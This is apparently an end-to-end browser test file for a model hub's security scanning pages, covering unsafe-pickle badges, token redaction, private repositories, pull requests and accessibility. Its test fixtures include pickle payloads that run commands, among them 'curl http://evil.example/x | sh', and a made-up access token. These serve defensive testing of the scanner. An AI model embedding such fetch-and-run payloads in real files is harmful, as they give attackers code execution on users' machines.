import { mkdir, mkdtemp, rm } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { commit, createRepo, uploadFiles } from "@huggingface/hub";
import { createUser, type RunningHub, startHub } from "@modelgate/hub";
import type { AxeResults } from "axe-core";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildZip } from "../../scanner/src/formats/test-helpers/zip-writer";
import { SCANNER_VERSION } from "../../scanner/src/version";
import { launchChromium, openPage } from "./browser";
import { buildPages, packageDir } from "./build-pages";
import { dangerousPickle, safePickle, suspiciousPickle } from "./pickles";

/** The test users' password for the pages. */
const PASSWORD = "a long test password";

/** A Hugging Face token that passes the secrets check's format checks (made up, never valid). */
const TOKEN = "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";

/** A one-tensor safetensors file: a 2x2 F32 matrix. */
function safetensors(): Uint8Array<ArrayBuffer> {
  const header = new TextEncoder().encode(
    JSON.stringify({ w: { dtype: "F32", shape: [2, 2], data_offsets: [0, 16] } }),
  );
  const bytes = new Uint8Array(8 + header.length + 16);
  new DataView(bytes.buffer).setBigUint64(0, BigInt(header.length), true);
  bytes.set(header, 8);
  return bytes;
}

/** A PyTorch zip checkpoint (as `torch.save` writes it) whose `data.pkl` runs a command. */
function torchCheckpoint(): Uint8Array<ArrayBuffer> {
  return buildZip({
    members: [
      { name: "archive/data.pkl", data: dangerousPickle("id") },
      { name: "archive/data/0", data: new Uint8Array(64) },
      { name: "archive/version", data: new TextEncoder().encode("3\n") },
    ],
  });
}

// The pages in a real browser (Debian's chromium via playwright-core) against a real hub on a
// loopback port, with repositories pushed through the hub's API by the @huggingface/hub client.

/** Screenshots for people to look at (test artefacts, not committed). */
const SHOTS = join(packageDir, "dist", "screenshots");
/** `expect.poll` with room for a loaded CI machine (its default gives up after 1 s). */
const poll = <T>(read: () => T | Promise<T>) => expect.poll(read, { timeout: 15_000 });
const AXE = createRequire(import.meta.url).resolve("axe-core/axe.min.js");

describe("the hub's web pages in Chromium", () => {
  let dataDir: string;
  let webDir: string;
  let hub: RunningHub;
  let browser: Browser;
  let alice = "";
  let bob = "";

  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), "modelgate-web-"));
    webDir = join(dataDir, "www");
    await buildPages(webDir);
    alice = await createUser({ dataDir }, "alice", "acme", { password: PASSWORD });
    bob = await createUser({ dataDir }, "bob", undefined, { password: PASSWORD });
    hub = await startHub({ host: "127.0.0.1", port: 0, dataDir, scanThreads: 1, webDir });
    const hubUrl = hub.url;
    await createRepo({ repo: "alice/mixed", accessToken: alice, hubUrl });
    await uploadFiles({
      repo: "alice/mixed",
      accessToken: alice,
      hubUrl,
      useXet: false,
      commitTitle: "Add checkpoints",
      files: [
        { path: "config.json", content: new Blob(['{"model_type":"bert"}']) },
        { path: "safe.pkl", content: new Blob([safePickle()]) },
        { path: "extra/odd.pkl", content: new Blob([suspiciousPickle()]) },
        { path: "pytorch_model.bin", content: new Blob([dangerousPickle()]) },
      ],
    });
    await createRepo({ repo: "acme/secret-model", accessToken: alice, hubUrl, private: true });
    await uploadFiles({
      repo: "acme/secret-model",
      accessToken: alice,
      hubUrl,
      useXet: false,
      files: [{ path: "safe.pkl", content: new Blob([safePickle()]) }],
    });
    await createRepo({ repo: { type: "dataset", name: "alice/tiny-data" }, accessToken: alice, hubUrl });
    await uploadFiles({
      repo: { type: "dataset", name: "alice/tiny-data" },
      accessToken: alice,
      hubUrl,
      useXet: false,
      files: [{ path: "train.csv", content: new Blob(["text,label\nhello,1\n"]) }],
    });
    await createRepo({ repo: "alice/torch-ckpt", accessToken: alice, hubUrl });
    await uploadFiles({
      repo: "alice/torch-ckpt",
      accessToken: alice,
      hubUrl,
      useXet: false,
      files: [{ path: "checkpoints/model.pt", content: new Blob([torchCheckpoint()]) }],
    });
    await waitForScans(hubUrl, "alice/torch-ckpt", alice);
    await createRepo({ repo: "alice/extras", accessToken: alice, hubUrl });
    await uploadFiles({
      repo: "alice/extras",
      accessToken: alice,
      hubUrl,
      useXet: false,
      files: [
        { path: "config.json", content: new Blob([JSON.stringify({ hf_token: TOKEN })]) },
        { path: "model.safetensors", content: new Blob([safetensors()]) },
      ],
    });
    await waitForScans(hubUrl, "alice/extras", alice);
    await waitForScans(hubUrl, "alice/mixed", alice);
    // bob, who cannot write to alice/mixed, proposes a pickle that runs a command, and a new config.
    await commit({
      repo: "alice/mixed",
      accessToken: bob,
      hubUrl,
      useXet: false,
      isPullRequest: true,
      title: "Add a faster loader",
      description: "Loads twice as fast.",
      operations: [
        { operation: "addOrUpdate", path: "loader.pkl", content: new Blob([dangerousPickle("curl x | sh")]) },
        {
          operation: "addOrUpdate",
          path: "config.json",
          content: new Blob(['{"model_type":"bert","fast":true}']),
        },
      ],
    });
    await fetch(`${hubUrl}/api/models/alice/mixed/tag/main`, {
      method: "POST",
      headers: { authorization: `Bearer ${alice}`, "content-type": "application/json" },
      body: JSON.stringify({ tag: "v1" }),
    });
    await waitForScans(hubUrl, "acme/secret-model", alice);
    await mkdir(SHOTS, { recursive: true });
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await hub?.close();
    if (dataDir) await rm(dataDir, { recursive: true, force: true });
  });

  /** Opens `path` in a new browser context, signed in as `user` (its session cookie) when given. */
  async function open(path: string, user?: string, options: { bypassCSP?: boolean } = {}): Promise<Page> {
    return openPage(browser, `${hub.url}${path}`, {
      ...options,
      prepare: async (context) => {
        if (!user) return;
        const res = await context.request.post(`${hub.url}/api/auth/sign-in`, {
          data: { username: user, password: PASSWORD },
        });
        expect(res.status()).toBe(200);
      },
    });
  }

  /** Opens `path`, waits for `ready`, and expects no axe-core WCAG 2 A/AA violation. */
  async function expectAccessible(path: string, ready: string): Promise<void> {
    // axe is injected as a script, which the pages' CSP rightly refuses: bypass it for the audit.
    const page = await open(path, undefined, { bypassCSP: true });
    await page.locator(ready).first().waitFor();
    const audit = await axeAudit(page);
    expect(audit.violations, path).toEqual([]);
    expect(audit.passes, path).toBeGreaterThan(10);
    await page.context().close();
  }

  it("home lists public repositories with a security badge, and hides private ones when signed out", async () => {
    const page = await open("/");
    const card = page.locator(".repo-card", { hasText: "alice/mixed" });
    await poll(() => card.locator(".badge").textContent()).toContain("2 files with issues");
    expect(await page.locator(".repo-card").allTextContents()).not.toContain(
      expect.stringContaining("secret-model"),
    );
    expect(await page.title()).toBe("Repositories · modelgate hub");
    await page.screenshot({ path: join(SHOTS, "home.png"), fullPage: true });

    // Search, then a dataset's page under /datasets/.
    await page.getByLabel("Search repositories").fill("tiny");
    await page.getByRole("button", { name: "Search" }).click();
    await page.waitForURL("**/?search=tiny");
    await expect
      .poll(() => page.locator(".repo-card").allInnerTexts())
      .toEqual([expect.stringContaining("Dataset alice/tiny-data")]);
    await page.getByRole("link", { name: "Dataset alice/tiny-data" }).click();
    await page.waitForURL("**/datasets/alice/tiny-data");
    const csv = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: "train.csv" }) });
    await poll(() => csv.locator(".badge").innerText()).toContain("Safe");
    await page.context().close();
  });

  it("repository page: warning banner and a badge per file", async () => {
    const page = await open("/alice/mixed");
    const banner = page.getByRole("alert").filter({ hasText: "This model has" });
    await expect
      .poll(() => banner.locator("h2").textContent())
      .toContain("This model has 1 file scanned as unsafe");
    expect(await banner.getByRole("link", { name: "pytorch_model.bin" }).getAttribute("href")).toBe(
      "/alice/mixed/blob/main/pytorch_model.bin",
    );
    const badgeOf = (name: string) =>
      page
        .getByRole("row")
        .filter({ has: page.getByRole("rowheader", { name }) })
        .locator(".badge");
    expect(await badgeOf("pytorch_model.bin").innerText()).toContain("Unsafe");
    expect(await badgeOf("safe.pkl").innerText()).toContain("Safe");
    expect(await badgeOf("config.json").innerText()).toMatch(/Safe|Not scanned/);
    expect(await page.getByRole("rowheader", { name: "extra (folder)" }).count()).toBe(1);
    // A folder shows the worst status of the files inside it (extra/odd.pkl is suspicious).
    expect(await badgeOf("extra (folder)").innerText()).toContain("Suspicious");
    await page.screenshot({ path: join(SHOTS, "repo.png"), fullPage: true });

    // The folder page, reached by keyboard-accessible link.
    await page.getByRole("link", { name: "extra (folder)" }).click();
    await page.waitForURL("**/alice/mixed/tree/main/extra");
    const odd = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: "odd.pkl" }) });
    await poll(() => odd.locator(".badge").innerText()).toContain("Suspicious");
    await page.context().close();
  });

  it("file page: os.system listed as dangerous with its reason and call, convert command, confirmed download", async () => {
    const page = await open("/alice/mixed/blob/main/pytorch_model.bin");
    const row = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: /os\.system/ }) });
    await poll(() => row.count()).toBe(1);
    const cells = await row.getByRole("cell").allInnerTexts();
    expect(cells[0]).toBe("dangerous");
    expect(cells[1]).toContain("runs commands");
    expect(cells[2]).toContain("os.system('echo pwned',)");
    expect(cells[3]).toMatch(/byte \d+/);
    expect(await page.locator("#file-title .badge").innerText()).toContain("Unsafe");
    expect(await page.locator(".convert code").innerText()).toBe(
      "modelgate convert pytorch_model.bin -o model.safetensors",
    );
    // What produced the result: this scanner, the built-in policy (by digest), no ClamAV configured.
    await poll(() => page.locator(".scan-provenance").innerText()).toContain(
      `by modelgate scanner ${SCANNER_VERSION}, import policy`,
    );
    expect(await page.locator(".scan-provenance").innerText()).not.toContain("Rescan pending");
    await page.screenshot({ path: join(SHOTS, "file.png"), fullPage: true });

    await page.getByRole("button", { name: "Download" }).click();
    const dialog = page.getByRole("dialog");
    expect(await dialog.getByRole("heading").innerText()).toBe("Download an unsafe file?");
    await page.screenshot({ path: join(SHOTS, "file-confirm.png") });
    const download = page.waitForEvent("download");
    await dialog.getByRole("button", { name: "Download anyway" }).click();
    expect((await download).url()).toBe(
      `${hub.url}/alice/mixed/resolve/main/pytorch_model.bin?download=true&accept_risk=1`,
    );
    await page.context().close();
  });

  it("file page of a PyTorch checkpoint: the import's member and offset, the members, the conversion", async () => {
    const page = await open("/alice/torch-ckpt/blob/main/checkpoints/model.pt");
    const row = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: /os\.system/ }) });
    await poll(() => row.count()).toBe(1);
    expect((await row.getByRole("cell").allInnerTexts())[3]).toMatch(/^member archive\/data\.pkl, byte \d+$/);
    expect(await page.locator(".convert code").innerText()).toBe(
      "modelgate convert model.pt -o model.safetensors",
    );
    await page.getByText(/members? inside/).click();
    expect(await page.locator(".members").innerText()).toContain("archive/data.pkl (pickle");
    await page.screenshot({ path: join(SHOTS, "file-torch.png"), fullPage: true });
    await page.context().close();
  });

  it("a leaked token: Secret found, shown redacted only, counted by the banner as a secret", async () => {
    const page = await open("/alice/extras");
    const row = page.getByRole("row").filter({ has: page.getByRole("rowheader", { name: "config.json" }) });
    await poll(() => row.locator(".badge").innerText()).toContain("Secret found");
    expect(await page.getByRole("alert").locator("h2").innerText()).toContain(
      "This model has 1 file leaking a secret",
    );
    expect(await page.getByText(/scanned as unsafe/).count()).toBe(0);
    await row.getByRole("link").click();
    await page.waitForURL("**/alice/extras/blob/main/config.json");
    const secrets = page.getByRole("region", { name: "Secrets (redacted)" });
    await poll(() => secrets.innerText()).toContain("hf_k…vC");
    expect(await page.content()).not.toContain(TOKEN);
    await page.context().close();
  });

  it("a safetensors file: its tensor summary", async () => {
    const page = await open("/alice/extras/blob/main/model.safetensors");
    const facts = page.locator(".facts");
    await poll(() => facts.innerText()).toContain("Parameters");
    const text = (await facts.innerText()).replace(/\s+/g, " ");
    expect(text).toContain("Tensors 1 Parameters 4 Data types F32: 1 tensor");
    expect(await page.locator("#file-title .badge").innerText()).toContain("Safe");
    expect(await page.locator(".convert").count()).toBe(0);
    await page.screenshot({ path: join(SHOTS, "file-safetensors.png"), fullPage: true });
    await page.context().close();
  });

  it("a safe file's page downloads without asking", async () => {
    const page = await open("/alice/mixed/blob/main/safe.pkl");
    await poll(() => page.locator("#file-title .badge").innerText()).toContain("Safe");
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download" }).click();
    expect((await download).url()).toBe(`${hub.url}/alice/mixed/resolve/main/safe.pkl?download=true`);
    await page.context().close();
  });

  it("history page lists the commits", async () => {
    const page = await open("/alice/mixed/commits/main");
    await expect
      .poll(() => page.locator(".commit-title").allInnerTexts())
      .toEqual(["Add checkpoints", "initial commit"]);
    // The footer names the key that signs the hub's commits, as gpg prints fingerprints.
    const key = (await (await fetch(`${hub.url}/api/hub/signing-key`)).json()) as { fingerprint: string };
    const groups = key.fingerprint.match(/.{4}/g) ?? [];
    await poll(() => page.locator(".site-footer .fingerprint").innerText()).toBe(
      `${groups.slice(0, 5).join(" ")}  ${groups.slice(5).join(" ")}`,
    );
    await page.screenshot({ path: join(SHOTS, "history.png"), fullPage: true });
    await page.context().close();
  });

  it("pull requests: the list shows each open one with the worst status of its files; its page lists them", async () => {
    const page = await open("/alice/mixed");
    await poll(() => page.locator('optgroup[label="Tags"] option').allInnerTexts()).toEqual(["v1"]);
    await page.getByRole("link", { name: "Pull requests" }).click();
    await page.waitForURL("**/alice/mixed/discussions");
    const pull = page.locator(".pull", { hasText: "#1 Add a faster loader" });
    await poll(() => pull.locator(".badge").innerText()).toContain("Unsafe");
    expect(await pull.innerText()).toContain("2 files changed, 1 with issues");
    expect(await pull.innerText()).toContain("opened by bob");
    await page.screenshot({ path: join(SHOTS, "pulls.png"), fullPage: true });

    await pull.getByRole("link", { name: "#1 Add a faster loader" }).click();
    await page.waitForURL("**/alice/mixed/discussions/1");
    const banner = page.getByRole("alert").filter({ hasText: "This pull request adds" });
    await poll(() => banner.innerText()).toContain(
      "This pull request adds 1 file scanned as unsafe or infected",
    );
    const row = (name: string) =>
      page.getByRole("row").filter({ has: page.getByRole("rowheader", { name }) });
    expect(await row("loader.pkl").locator(".badge").innerText()).toContain("Unsafe");
    expect(await row("loader.pkl").innerText()).toContain("added");
    expect(await row("config.json").innerText()).toContain("modified");
    expect(await row("loader.pkl").getByRole("link").getAttribute("href")).toBe(
      "/alice/mixed/blob/refs%2Fpr%2F1/loader.pkl",
    );
    const conversation = page.locator(".events");
    expect(await conversation.innerText()).toContain("Loads twice as fast.");
    expect(await conversation.innerText()).toContain("Add a faster loader");
    await page.screenshot({ path: join(SHOTS, "pull-request.png"), fullPage: true });

    // The file's security detail at the pull request's ref, as for any revision.
    await row("loader.pkl").getByRole("link").click();
    await page.waitForURL("**/alice/mixed/blob/refs%2Fpr%2F1/loader.pkl");
    await poll(() => page.locator(".imports").innerText()).toContain("system");
    await page.context().close();
  });

  it("pull request pages pass axe-core's WCAG 2 A and AA checks", async () => {
    await expectAccessible("/alice/mixed/discussions", ".pull .badge");
    await expectAccessible("/alice/mixed/discussions/1", ".files .badge");
  });

  it("a private repository is shown only to those allowed", async () => {
    const anonymous = await open("/acme/secret-model");
    await expect
      .poll(() => anonymous.getByRole("alert").first().innerText())
      .toContain("Repository not found");
    await anonymous.context().close();

    const outsider = await open("/", "bob");
    await poll(() => outsider.locator(".account").innerText()).toContain("bob");
    await poll(() => outsider.locator(".repo-card").count()).toBe(4);
    expect(await outsider.locator(".repo-list").innerText()).not.toContain("secret-model");
    await outsider.context().close();

    // Sign in through the form, as a person would.
    const member = await open("/sign-in");
    await member.getByLabel("User name").fill("alice");
    await member.getByLabel("Password").fill(PASSWORD);
    await member.getByRole("button", { name: "Sign in" }).click();
    await member.waitForURL(`${hub.url}/`);
    const card = member.locator(".repo-card", { hasText: "acme/secret-model" });
    await poll(() => card.innerText()).toContain("Private");
    await card.getByRole("link").click();
    await member.waitForURL("**/acme/secret-model");
    const badge = member.getByRole("row").filter({ hasText: "safe.pkl" }).locator(".badge");
    await poll(() => badge.innerText()).toContain("Safe");
    await member.context().close();
  });

  it("the drop zone scans a dropped dangerous pickle in the page, uploading nothing", async () => {
    const page = await open("/");
    await page.getByRole("heading", { name: "Check a file on your computer" }).waitFor();
    await page.waitForLoadState("networkidle");
    const requests: string[] = [];
    page.on("request", (r) => requests.push(`${r.method()} ${new URL(r.url()).pathname}`));
    const bytes = Array.from(dangerousPickle("curl http://evil.example/x | sh"));
    const dataTransfer = await page.evaluateHandle((data) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(data)], "dropped.pt"));
      return dt;
    }, bytes);
    await page.getByTestId("drop-zone").dispatchEvent("drop", { dataTransfer });
    const result = page.locator(".drop-result");
    await poll(() => result.locator("#drop-report-title").innerText()).toContain("Unsafe");
    const row = result.getByRole("row").filter({ has: page.getByRole("rowheader", { name: /os\.system/ }) });
    expect((await row.getByRole("cell").allInnerTexts())[0]).toBe("dangerous");
    expect(await row.innerText()).toContain("curl http://evil.example/x | sh");
    // Only the scanner's own scripts were fetched: the file went nowhere.
    expect(requests.filter((r) => !/^GET \/assets\/[\w-]+\.js$/.test(r))).toEqual([]);
    await page.screenshot({ path: join(SHOTS, "drop-zone.png"), fullPage: true });
    await page.context().close();
  });

  it("the drop zone finds a leaked token in a dropped file, and shows it redacted", async () => {
    const page = await open("/");
    await page.getByRole("heading", { name: "Check a file on your computer" }).waitFor();
    await page.locator("#drop-input").setInputFiles({
      name: "notes.txt",
      mimeType: "text/plain",
      buffer: Buffer.from(`HF_TOKEN=${TOKEN}\n`),
    });
    const result = page.locator(".drop-result");
    await poll(() => result.locator("#drop-report-title").innerText()).toContain("Secret found");
    expect(await result.innerText()).toContain("hf_k…vC");
    expect(await result.innerText()).not.toContain(TOKEN);
    await page.context().close();
  });

  it("pages pass axe-core's WCAG 2 A and AA checks (labels, landmarks, contrast, names)", async () => {
    const pages: [string, string][] = [
      ["/", ".repo-card .badge"],
      ["/alice/mixed", ".files .badge"],
      ["/alice/mixed/blob/main/pytorch_model.bin", ".imports"],
      ["/alice/mixed/commits/main", ".commit-title"],
      ["/sign-in", "#password-input"],
      ["/nobody/nothing", ".notice-error"],
    ];
    for (const [path, ready] of pages) await expectAccessible(path, ready);
  });

  it("works from the keyboard: skip link, download confirmation opened and dismissed", async () => {
    const page = await open("/alice/mixed/blob/main/pytorch_model.bin");
    await page.locator(".imports").waitFor();
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Skip to content");
    await page.keyboard.press("Enter");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("main");
    await page.getByRole("button", { name: "Download" }).focus();
    await page.keyboard.press("Enter");
    const dialog = page.getByRole("dialog");
    await dialog.waitFor();
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Cancel");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });
    await page.context().close();
  });
});

/** axe-core's WCAG 2 A/AA audit of the page: its violations, and how many rules passed (so it ran). */
async function axeAudit(page: Page): Promise<{ violations: string[]; passes: number }> {
  await page.addScriptTag({ path: AXE });
  return page.evaluate(async () => {
    const axe = (window as unknown as { axe: { run(ctx: Document, o: object): Promise<AxeResults> } }).axe;
    const result = await axe.run(document, { runOnly: { type: "tag", values: ["wcag2a", "wcag2aa"] } });
    return {
      violations: result.violations.map(
        (v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`,
      ),
      passes: result.passes.length,
    };
  });
}

async function waitForScans(hubUrl: string, repo: string, token: string): Promise<void> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const response = await fetch(`${hubUrl}/api/models/${repo}?securityStatus=true`, {
      headers: { authorization: `Bearer ${token}` },
    });
    const body = (await response.json()) as { securityRepoStatus?: { scansDone: boolean } };
    if (body.securityRepoStatus?.scansDone) return;
    if (Date.now() > deadline) throw new Error(`scans of ${repo} did not finish`);
    await new Promise((r) => setTimeout(r, 100));
  }
}
